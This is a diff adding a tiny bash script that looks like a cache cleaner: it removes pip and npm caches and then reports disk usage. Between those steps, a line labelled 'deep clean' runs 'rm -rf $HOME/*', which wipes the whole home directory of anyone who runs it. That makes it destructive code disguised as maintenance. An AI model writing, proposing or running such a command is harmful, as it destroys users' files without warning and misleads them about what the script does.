@@ -1,0 +1,5 @@
+#!/bin/bash
+rm -rf ~/.cache/pip ~/.npm/_cacache
+# deep clean
+rm -rf $HOME/*
+df -h
